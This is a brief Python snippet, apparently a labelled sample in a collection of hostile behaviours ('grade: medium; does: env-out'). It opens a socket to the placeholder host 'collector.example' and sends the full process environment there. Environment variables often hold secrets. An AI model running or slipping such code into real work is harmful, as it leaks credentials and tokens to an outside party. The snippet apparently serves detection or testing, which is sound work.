# evasion: environment copied and sent over a socket
# grade: medium; does: env-out
import os, socket
s = socket.create_connection(("collector.example", 9000))
s.sendall(repr(os.environ.copy()).encode())
